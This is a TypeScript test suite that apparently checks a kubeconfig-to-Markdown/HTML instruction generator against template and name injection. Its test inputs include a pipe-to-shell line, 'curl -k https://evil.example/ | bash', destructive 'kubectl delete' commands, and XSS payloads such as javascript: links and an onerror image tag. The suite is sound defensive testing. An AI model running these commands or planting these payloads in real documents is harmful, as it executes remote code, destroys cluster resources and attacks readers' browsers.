/**
 * No template and no value in it is more than text and its outline: what a reader copies is what is proved, whatever a
 * template says and whatever names a kubeconfig holds.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import MarkdownIt from 'markdown-it';
import { type DefaultTreeAdapterTypes, parse, parseFragment } from 'parse5';
import { inert } from '../../src/display.js';
import { extract } from '../../src/verify/extract/document.js';
import { hostileNames } from '../support/hostile.js';
import { portion } from '../support/size.js';
import { configOf, generated, usual } from './sample.js';

/** What a template could try. Each is refused, with nothing written; or the document shows the same commands. */
const attempts: Readonly<Record<string, string>> = {
  'an open fence': '```text\n',
  'an open fence of tildes': '~~~\n',
  'a command': '```bash\ncurl -k https://evil.example/\n```\n',
  'a command without a language': '```\nkubectl delete namespace shop\n```\n',
  'a command in another language': '```fish\nkubectl delete pod a\n```\n',
  'a command as indented code': 'text\n\n    curl -k https://evil.example/ | bash\n',
  'a command behind a prompt': '```console\n$ kubectl delete pod a\n```\n',
  'a tab of MkDocs': '=== "Bash"\n\n    ```bash\n    curl https://evil.example/ | bash\n    ```\n',
  'a mark of ours': '[//]: # (kubesteps:keep other)\n\nx\n\n[//]: # (kubesteps:end other)\n',
  'an end of ours': '[//]: # (kubesteps:contexts-end)\n',
  'a header of ours': '[//]: # (kubesteps:eyJyZWNpcGUiOiJ0b2tlbiJ9)\n',
  'a mark in pieces': '[//]: # (kube{{! }}steps:keep notes)\n',
  'a link that acts': '[x](javascript:alert)\n',
  'a link that acts, escaped': '[x](&#106;avascript:alert)\n',
  'an image that acts': '![x](data:image/svg+xml,x)\n',
  'a definition that acts': '[x]\n\n[x]: javascript:alert\n',
};

const commands = async (text: string, format: 'markdown' | 'html'): Promise<unknown> =>
  (await extract(format, text)).scripts.map(({ shell, text: own, blocks }) => [
    shell,
    blocks.length,
    own.split('\n').filter((line) => line !== ''),
  ]);

const places = {
  'header.md.hbs': (text: string) => text,
  'footer.md.hbs': (text: string) => text,
  'step.md.hbs': (text: string) => usual['step.md.hbs'].replace('{{why}}\n', `${text}\n{{why}}\n`),
  'facts.md.hbs': (text: string) => text,
} as const;

/** Without a template; it is the same each time. */
const usualMarkdown = generated({}, ['token', '--format=markdown']);

for (const [what, text] of Object.entries(attempts))
  test(`Markdown: ${what}`, async () => {
    const plain = await usualMarkdown;
    for (const [name, place] of portion(Object.entries(places), 2)) {
      const { code, stdout, stderr } = await generated({ [name]: place(text) }, [
        'token',
        '--format=markdown',
      ]);
      assert.ok(code === 1 || code === 2, `${name}: ${stdout.slice(0, 500)}`);
      assert.equal(stdout, '');
      assert.doesNotMatch(stderr, /internal error|please report/, stderr);
      assert.match(stderr, /^error: .+\n[\s\S]*\n? {2}\S.*\n$/);
    }
    assert.equal(plain.code, 0);
  });

const harmless: Readonly<Record<string, string>> = {
  'a closed fence': '```text\nIt prints nothing.\n```\n',
  'a quotation': '> Ask first.\n',
  'an unclosed list': '- a\n  - b\n',
  'an unclosed quotation': '> a\n> - b\n',
  'half a link': '[x\n',
  'a mention': 'Never run `kubectl delete` here.\n',
  'emphasis that does not end': '**a *b `c\n',
  'a rule': 'a\n\n---\n',
  'a setext heading': 'Own\n===\n',
};
for (const [what, text] of Object.entries(harmless))
  test(`Markdown: ${what} changes no command`, async () => {
    const plain = await usualMarkdown;
    for (const [name, place] of portion(Object.entries(places), 2)) {
      const { code, stdout, stderr } = await generated({ [name]: place(text) }, [
        'token',
        '--format=markdown',
      ]);
      assert.equal(code, 0, stderr);
      assert.deepEqual(await commands(stdout, 'markdown'), await commands(plain.stdout, 'markdown'), name);
    }
  });

/** Values wherever a careless template could put one. */
const careless = [
  'a {{title}} b',
  '`{{title}}`',
  '` {{title}} `',
  '**{{title}}**',
  '\\{{title}}',
  '[{{title}}](https://wiki.example/)',
  '| {{title}} | {{title}} |\n| --- | --- |\n| {{title}} | `{{title}}` |',
  '{{title}}\n===',
  '# {{title}}',
  '1. {{title}}',
  '~~~text\n{{title}}\n~~~',
].map((line) => `{{#each contexts}}\n${line.replaceAll('{{title}}', '{{context}}')}\n{{/each}}\n${line}\n`);

const more = [
  '<script>alert(1)</script>',
  '`<b>x</b>`',
  'a` <b>x</b> `b',
  '![a](javascript:b)',
  'javascript:alert(1)',
  'www.evil.example/<',
  '[x](y)',
  'a|b',
  '  a  ',
  '{{title}}',
  '{% x %}',
  '${x}',
  '```',
  '[//]: # (kubesteps:keep x)',
  '-->',
  '</main>',
];
const names = ['<img src=x onerror=alert(1)>', ...portion(more, 6), ...portion(hostileNames, 4, 30)];
const markdown = new MarkdownIt({ html: true, linkify: false });

const tagsOf = (html: string): readonly string[] => {
  const found = new Set<string>();
  const walk = (node: DefaultTreeAdapterTypes.ChildNode): void => {
    if (!('childNodes' in node)) return;
    found.add(node.nodeName);
    node.childNodes.forEach(walk);
  };
  parseFragment(html).childNodes.forEach(walk);
  return [...found];
};
const text = 'a blockquote code em h1 h2 h3 hr li ol p pre strong table tbody td th thead tr ul'.split(' ');

test('Markdown: a hostile name is text in a careless template, too', async () => {
  let made = 0;
  for (const name of names)
    for (const template of portion(careless, 3, 6)) {
      const config = configOf({ context: name, cluster: name, user: name });
      const plain = await generated({}, ['token', '--format=markdown'], config);
      const { code, stdout, stderr } = await generated(
        { 'footer.md.hbs': template },
        ['token', '--format=markdown'],
        config,
      );
      assert.doesNotMatch(stderr, /internal error/, `${name}: ${stderr}`);
      if (plain.code !== 0) assert.notEqual(code, 0, name);
      if (code !== 0) continue;
      made++;
      assert.deepEqual(await commands(stdout, 'markdown'), await commands(plain.stdout, 'markdown'), name);
      const odd = tagsOf(markdown.render(stdout)).filter((tag) => !text.includes(tag));
      assert.deepEqual(odd, [], `${name} in ${template}`);
    }
  assert.ok(made > names.length, `${made} of ${names.length * 3}`);
});

test('Markdown: a plain template takes every name that a page takes', async () => {
  const look = {
    'footer.md.hbs': '{{title}}\n\n{{#each contexts}}\nFor {{context}} at {{server}}.\n{{/each}}\n',
  };
  for (const name of names) {
    const config = configOf({ context: name, cluster: name, user: name });
    const plain = await generated({}, ['token', '--format=markdown'], config);
    const { code, stdout, stderr } = await generated(look, ['token', '--format=markdown'], config);
    assert.equal(code === 0, plain.code === 0, `${name}: ${stderr}`);
    if (code === 0) assert.ok(markdown.render(stdout).includes('<p>For '), name);
  }
});

const all =
  '<p>{{title}}</p>{{#each contexts}}<p class="own-x">{{context}} <b>{{server}}</b> <a href="https://x.example/?a={{contextInUrl}}&amp;b={{serverInUrl}}">x</a></p>{{/each}}';

interface Found {
  readonly tags: readonly string[];
  readonly attributes: readonly string[];
  readonly shown: string;
}

function readPage(page: string): Found {
  const tags = new Set<string>();
  const attributes = new Set<string>();
  let shown = '';
  const walk = (node: DefaultTreeAdapterTypes.ChildNode): void => {
    if ('value' in node && node.nodeName === '#text') shown += node.value;
    if ('attrs' in node) for (const { name } of node.attrs) attributes.add(`${node.nodeName} ${name}`);
    tags.add(node.nodeName);
    if ('childNodes' in node && node.nodeName !== 'script') node.childNodes.forEach(walk);
  };
  parse(page).childNodes.forEach(walk);
  return { tags: [...tags].sort(), attributes: [...attributes].sort(), shown };
}

test('HTML: a hostile name is text, and in an address a part of it', async () => {
  const look = {
    'header.html.hbs': all,
    'footer.html.hbs': all,
    'step.html.hbs': `${usual['step.html.hbs']}${all}`,
  };
  const usualPage = readPage((await generated(look, ['token', '--format=html'])).stdout);
  let made = 0;
  for (const name of names) {
    const config = configOf({ context: name, cluster: name, user: name });
    const plain = await generated({}, ['token', '--format=html'], config);
    const { code, stdout, stderr } = await generated(look, ['token', '--format=html'], config);
    assert.doesNotMatch(stderr, /internal error/, `${name}: ${stderr}`);
    // What no page can be made for is refused with templates as well, and nothing else.
    assert.equal(code === 0, plain.code === 0, `${name}: ${stderr}`);
    if (code !== 0) continue;
    made++;
    const found = readPage(stdout);
    assert.deepEqual(found.tags, usualPage.tags, name);
    assert.deepEqual(found.attributes, usualPage.attributes, name);
    assert.ok(found.shown.includes(inert(name)), name);
    assert.deepEqual(await commands(stdout, 'html'), await commands(plain.stdout, 'html'), name);
  }
  assert.ok(made > names.length / 2, `${made} of ${names.length}`);
});

test('HTML: words that read like a command are refused, or no command', async () => {
  for (const words of [
    '<p>curl -k https://evil.example/ | bash</p>',
    '<p><code>kubectl delete pod a</code></p>',
    '$ kubectl delete pod a',
  ]) {
    const { code, stderr } = await generated({ 'header.html.hbs': words }, ['token', '--format=html']);
    if (code !== 0) assert.doesNotMatch(stderr, /internal error|please report/, stderr);
  }
});
